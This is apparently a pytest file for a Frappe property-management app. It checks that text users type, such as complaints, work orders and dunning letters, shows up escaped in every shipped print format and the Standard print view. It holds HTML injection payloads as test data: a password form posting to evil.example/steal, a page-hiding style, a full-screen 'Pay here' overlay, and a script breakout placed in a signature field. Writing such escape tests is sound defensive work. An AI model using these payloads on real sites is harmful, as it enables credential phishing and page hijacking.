"""Print views show what users typed as text (issue 22): a description carrying a password form,
a style that hides the page and a full-screen box arrives in the supervisor's print view escaped,
in every print format the app ships and in Frappe's Standard format of the same records, through
/printview and through get_html_and_style."""

import frappe
import pytest
from frappe.utils import add_days, now_datetime, today

from tests.portal_world import make_world, purge_world
from tests.utils import delete_user, make_user, purge_invoices, purge_payments

HOSTILE = (
	'<form action="https://evil.example/steal"><input type="password" name="pw"></form>'
	"<style>body{display:none}</style>"
	'<div style="position:fixed;top:0;left:0;width:100%;height:100%">Pay here</div>\n第二行'
)
# what must never reach the page as markup, and what shows the text was kept (escaped)
RAW = ("<form action", '<input type="password"', "<style>body", '<div style="position:fixed')
ESCAPED = "&lt;form action="
SHORT = '<form action="/x"><input type="password"></form>'  # for Data fields (140 characters)


def set_text(doctype: str, name: str, fields: tuple[str, ...]) -> None:
	"""The hostile text straight into the database: what Frappe's sanitizer keeps of it on a save
	(it allows forms, inputs, styles and inline styles) and more; the short one in Data fields."""
	meta = frappe.get_meta(doctype)
	values = {f: SHORT if meta.get_field(f).fieldtype == "Data" else HOSTILE for f in fields}
	frappe.db.set_value(doctype, name, values, update_modified=False)


def complaint(world):
	doc = frappe.get_doc(
		{"doctype": "Complaint", "unit": world.unit, "description": "噪音", "complaint_category": "Other"}
	).insert()
	set_text("Complaint", doc.name, ("description", "resolution"))
	return [("Complaint", doc.name)]


def work_order(world):
	doc = frappe.get_doc(
		{
			"doctype": "Service Request",
			"unit": world.unit,
			"description": "漏水",
			"materials": [{"material": "阀门", "qty": 1}],
		}
	).insert()
	set_text("Service Request", doc.name, ("description", "resolution", "contact_phone"))
	set_text(doc.materials[0].doctype, doc.materials[0].name, ("material", "note"))
	# a forged signature cannot break out of its image
	frappe.db.set_value(
		"Service Request",
		doc.name,
		"resident_signature",
		'"><script>alert(1)</script>',
		update_modified=False,
	)
	return [("Service Request", doc.name)]


def handover(world):
	doc = frappe.get_doc(
		{
			"doctype": "Move-In Handover",
			"unit": world.unit,
			"property_owner": world.owners[0],
			"meter_readings": [{"meter_type": "Water", "reading": 10}],
		}
	).insert()
	set_text("Move-In Handover", doc.name, ("notes",))
	for row in (doc.checklist[0], doc.keys[0], doc.documents[0]):
		fields = {"Move-In Handover Check": ("check", "note"), "Move-In Handover Key": ("key",)}
		set_text(row.doctype, row.name, fields.get(row.doctype, ("document",)))
	return [("Move-In Handover", doc.name)]


def callback(world):
	doc = frappe.get_doc({"doctype": "Callback Record", "unit": world.unit}).insert()
	set_text("Callback Record", doc.name, ("content_and_result", "open_question"))
	return [("Callback Record", doc.name)]


def corrective_action(world):
	doc = frappe.get_doc({"doctype": "Corrective Action", "problem": "杂物", "deadline": today()}).insert()
	set_text("Corrective Action", doc.name, ("problem", "cause", "action", "verification"))
	return [("Corrective Action", doc.name)]


def owner_visit(world):
	doc = frappe.get_doc(
		{"doctype": "Owner Visit", "unit": world.unit, "visit_mode": "Phone", "notes": "电话访问"}
	).insert()
	set_text("Owner Visit", doc.name, ("notes", "suggestions", "visitor_opinion", "feedback"))
	return [("Owner Visit", doc.name)]


def survey(world):
	doc = frappe.get_doc(
		{
			"doctype": "Opinion Survey",
			"title": "转义测试",
			"community": world.community,
			"start_date": today(),
			"end_date": add_days(today(), 10),
		}
	).insert()
	doc.open()
	response = frappe.get_doc(
		{
			"doctype": "Survey Response",
			"opinion_survey": doc.name,
			"unit": world.unit,
			"channel": "Phone",
			"ratings": [{"area": doc.items[0].area, "rating": "Dissatisfied", "opinion": "灯"}],
			"comments": "其他",
		}
	).insert()
	set_text("Survey Response", response.name, ("comments",))
	set_text(response.ratings[0].doctype, response.ratings[0].name, ("opinion",))
	doc.reload()
	doc.append("findings", {"area": doc.items[0].area, "finding": "x"})
	doc.save()
	set_text(doc.findings[0].doctype, doc.findings[0].name, ("finding",))
	notice = doc.opening_notice
	return [("Survey Response", response.name), ("Opinion Survey", doc.name), ("Notice", notice)]


def renovation(world):
	doc = frappe.get_doc(
		{
			"doctype": "Renovation Application",
			"unit": world.unit,
			"start_date": today(),
			"end_date": add_days(today(), 20),
			"scope": "防水",
			"contractor": "安居装饰",
			"workers": [{"worker_name": "李师傅", "trade": "泥瓦工"}],
		}
	).insert()
	set_text(
		"Renovation Application",
		doc.name,
		("scope", "contractor", "review_notes", "inspection_notes", "deduction_reason"),
	)
	set_text(doc.workers[0].doctype, doc.workers[0].name, ("worker_name",))
	return [("Renovation Application", doc.name)]


def vacant_inspection(world):
	from property_service.core.periods import period_of

	frappe.db.set_value("Property Owner Unit", {"unit": world.other_unit}, "lives_here", 0)
	doc = frappe.get_doc(
		{"doctype": "Vacant Unit Inspection", "unit": world.other_unit, "period": period_of()}
	).insert()
	set_text("Vacant Unit Inspection", doc.name, ("findings",))
	set_text(doc.checklist[0].doctype, doc.checklist[0].name, ("note",))
	return [("Vacant Unit Inspection", doc.name)]


def drill(world):
	doc = frappe.get_doc(
		{
			"doctype": "Emergency Drill",
			"emergency_plan": "档案室失火",
			"community": world.community,
			"drill_date": add_days(now_datetime(), -1),
			"location": "档案室",
			"participants": [
				{"participant_type": "Other", "participant_name": "张保安", "drill_role": "灭火"}
			],
			"improvements": [{"improvement": "灭火器移至门口"}],
		}
	).insert()
	set_text(
		"Emergency Drill",
		doc.name,
		("location", "situation_report", "process_analysis", "feasibility_analysis"),
	)
	set_text(doc.participants[0].doctype, doc.participants[0].name, ("participant_name",))
	set_text(doc.improvements[0].doctype, doc.improvements[0].name, ("improvement",))
	return [("Emergency Drill", doc.name)]


def counter_receipt(world):
	"""The counter's receipt of a fee invoice, taken as an Administrator (an accountant: the entry
	is submitted); the payer's name and the card slip's reference as typed."""
	from property_service.billing.payments import CASH
	from property_service.fees.counter import take_payment
	from tests.test_dunning import fee_invoice

	invoice = fee_invoice(world.unit, "2031-07", 120, due_days_ago=1)
	entry = take_payment(world.unit, CASH, 120, [invoice.name], reference_no="POS-1")
	set_text("Payment Entry", entry.name, ("party_name", "reference_no", "remarks"))
	return [("Payment Entry", entry.name)]


def dunning_notice(world):
	"""A first notice of an invoice 40 days overdue; the payer's name and the letter as typed."""
	from property_service.fees import dunning
	from tests.test_dunning import fee_invoice

	invoice = fee_invoice(world.unit, "2031-08", 300, due_days_ago=40)
	name = dunning.make_dunning(
		frappe._dict(name=invoice.name, company=invoice.company), 1, dunning.DUNNING_TYPES[0], today()
	)
	set_text("Dunning", name, ("customer_name", "body_text", "closing_text"))
	return [("Dunning", name)]


# every print format the app ships -> what makes a record of it (the printed record comes last,
# or is named by its DocType)
FORMATS = {
	"Complaint Visit Record": complaint,
	"Callback Work Record": callback,
	"Work Order Slip": work_order,
	"Move-In Handover Form": handover,
	"Corrective Action Report": corrective_action,
	"Owner Visit Record": owner_visit,
	"Owner Opinion Survey Form": survey,
	"Opinion Survey Report": survey,
	"Renovation Application Form": renovation,
	"Vacant Unit Inspection Form": vacant_inspection,
	"Emergency Drill Report": drill,
	"Counter Receipt": counter_receipt,
	"Dunning Notice": dunning_notice,
}
# who prints them: the supervisor, or for ERPNext's money documents an accountant
PRINTED_BY_ACCOUNTANT = {"Counter Receipt", "Dunning Notice"}


def test_every_shipped_print_format_is_covered():
	modules = frappe.get_all("Module Def", {"app_name": "property_service"}, pluck="name")
	shipped = set(frappe.get_all("Print Format", {"module": ["in", modules]}, pluck="name"))
	assert shipped == set(FORMATS)


@pytest.fixture(scope="module")
def world(site):
	world = make_world()
	world.supervisor = make_user(roles=("Customer Service Supervisor",))
	world.accountant = make_user(roles=("Accounts User",))
	frappe.db.commit()  # nosemgrep: the web server is another process
	yield world
	purge_world(world)
	delete_user(world.supervisor)
	delete_user(world.accountant)
	frappe.db.commit()  # nosemgrep: clean-up of committed test data


@pytest.fixture
def record(world, request):
	print_format = request.param
	frappe.db.rollback()
	made = FORMATS[print_format](world)
	frappe.db.commit()  # nosemgrep: the web server is another process
	doctype = frappe.db.get_value("Print Format", print_format, "doc_type")
	name = next(name for made_doctype, name in made if made_doctype == doctype)
	try:
		yield print_format, doctype, name
	finally:
		frappe.db.rollback()
		for made_doctype, made_name in reversed(made):
			if made_doctype != "Payment Entry":  # submitted: purged with its ledger rows below
				frappe.delete_doc(made_doctype, made_name, force=True, ignore_permissions=True)
		purge_payments([world.unit])
		purge_invoices({"property_unit": world.unit})
		frappe.db.commit()  # nosemgrep: clean-up of committed test data


def assert_escaped(html: str, where: str) -> None:
	for markup in RAW:
		assert markup not in html, (where, markup)
	assert ESCAPED in html, where


@pytest.mark.parametrize("record", list(FORMATS), indirect=True)
@pytest.mark.parametrize("standard", [False, True], ids=["shipped", "standard"])
def test_a_print_view_shows_what_users_typed_as_text(world, rest, record, standard):
	print_format, doctype, name = record
	form = "Standard" if standard else print_format
	rest.login(world.accountant if print_format in PRINTED_BY_ACCOUNTANT else world.supervisor)
	page = rest.get(
		"/printview", params={"doctype": doctype, "name": name, "format": form, "no_letterhead": 1}
	)
	assert page.status_code == 200, page.text[:500]
	assert_escaped(page.text, f"/printview {form}")
	response = rest.get(
		"/api/method/frappe.www.printview.get_html_and_style",
		params={"doc": doctype, "name": name, "print_format": form, "no_letterhead": 1},
	)
	assert response.status_code == 200, response.text[:500]
	assert_escaped(response.json()["message"]["html"], f"get_html_and_style {form}")
